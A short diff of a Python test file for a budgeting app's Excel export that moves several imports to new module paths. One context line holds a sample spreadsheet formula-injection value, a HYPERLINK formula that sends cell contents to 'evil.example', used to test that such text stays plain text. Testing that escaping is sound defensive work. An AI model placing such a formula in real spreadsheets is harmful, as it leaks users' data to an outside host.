@@ -13,8 +13,8 @@ from openpyxl import load_workbook
 
 from budgets import excel, services
 from budgets.selectors import budget_for
-from plans import interchange
-from plans.selectors import plan_content
+from plans.content.selectors import plan_content
+from plans.interchange import services as interchange
 
 from .xlsx_eval import evaluate
 
@@ -24,7 +24,7 @@ EURO = '"€" #,##0.00'
 @pytest.fixture
 def tricky_plan(budget_plan, author, sources):
     """Add amounts that round at half a cent: 3 × 0.25 h × 10.10 = 7.575 → 7.58."""
-    from plans import services as plan_services
+    from plans.content import services as plan_services
 
     theme = budget_plan.themes.get()
     objective = budget_plan.objectives.get()
@@ -144,7 +144,7 @@ def test_the_estimate_sheet_lists_themes_and_objectives(budget_plan):
 
 
 def test_typed_text_that_looks_like_a_formula_stays_text(budget_plan, author):
-    from plans import services as plan_services
+    from plans.content import services as plan_services
 
     evil = '=HYPERLINK("https://evil.example/?x="&B3,"Klik hier")'
     theme = budget_plan.themes.get()
